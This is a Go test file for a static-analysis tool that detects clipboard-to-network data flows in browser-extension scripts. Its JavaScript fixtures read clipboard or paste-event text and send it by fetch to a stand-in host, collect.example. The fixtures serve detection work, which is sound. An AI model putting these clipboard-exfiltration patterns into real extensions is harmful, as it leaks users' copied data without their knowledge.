package analysis

import "testing"

// What is copied under names that are not known is not taken for a member that has a value of its own, and is found where
// the whole object is sent, or a member that only such a copy can have set.
func TestFlowsOfCopiedMembers(t *testing.T) {
	const copied = `const conf = {engine: {}, theme: "dark", last: ""};
		navigator.clipboard.readText().then(t => { const s = JSON.parse(t); for (const k in s) if (k in conf) conf[k] = s[k] });
		setTimeout(() => fetch("https://collect.example/", {method: "POST", body: `
	const kept = `chrome.storage.local.set({engine: {model: "small"}});
		document.addEventListener("paste", e => chrome.storage.local.set({["mark" + Date.now()]: {at: e.clipboardData.getData("text")}}));
		setTimeout(() => chrome.storage.local.get(`
	for _, c := range []struct {
		name, code string
		want       bool
	}{
		{"member of an object", copied + `conf.engine.model}))`, false},
		{"member with a text", copied + `conf.theme}))`, false},
		{"empty member", copied + `conf.last}))`, true},
		{"member that is not there", copied + `conf.other}))`, true},
		{"whole object", copied + `JSON.stringify(conf)}))`, true},
		{"other name in the storage", kept + `"engine", r => fetch("https://collect.example/", {body: r.engine.model})))`, false},
		{"whole storage", kept + `null, r => fetch("https://collect.example/", {body: JSON.stringify(r)})))`, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := background(t, "bg.js", c.code)
			if got := hasFlow(r, "clipboard", "fetch", "collect.example"); got != c.want {
				t.Errorf("a flow: %v, want %v; %+v", got, c.want, r.Flows)
			}
		})
	}
}
